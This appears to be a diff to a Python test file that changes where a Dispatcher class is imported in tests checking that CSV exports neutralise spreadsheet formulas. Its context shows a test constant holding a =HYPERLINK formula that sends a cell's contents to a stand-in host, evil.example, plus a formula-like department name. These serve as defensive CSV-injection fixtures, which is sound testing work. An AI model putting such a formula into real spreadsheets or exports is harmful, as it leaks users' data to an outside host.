@@ -176,7 +176,7 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 
 def test_every_csv_export_neutralises_formulas(app, client, login):
     from publisher.counting import report
-    from publisher.pipeline.dispatch import Dispatcher
+    from publisher.pipeline.worker import Dispatcher
 
     with app.session() as s:  # a category named like a formula reaches the count tables
         workflow.add_department(s, "+1+2", actor="test")
@@ -210,7 +210,7 @@ def test_every_csv_export_neutralises_formulas(app, client, login):
 
 def test_ledger_export_still_imports_to_the_same_titles(app):
     make_item(app, stage="scheduled", publish_at=datetime.now(UTC), title=EVIL)
-    from publisher.pipeline.dispatch import Dispatcher
+    from publisher.pipeline.worker import Dispatcher
 
     Dispatcher(engine=app.engine, ctx=app.ctx).run(once=True)
     text = ledger.export_csv(app.engine, app.settings.zone)
